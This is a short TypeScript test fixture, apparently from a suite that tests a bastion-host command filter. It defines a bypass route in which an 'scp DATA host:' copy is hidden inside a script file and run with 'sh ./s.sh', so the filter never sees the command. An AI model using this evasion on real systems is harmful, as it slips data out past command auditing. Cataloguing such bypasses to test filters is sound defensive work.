import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'in a script',
  source: 'jumpserver#16814: the command is never on the command line',
  keys: ['sh ./s.sh\r'],
  files: { 's.sh': 'scp DATA host:\n' },
};
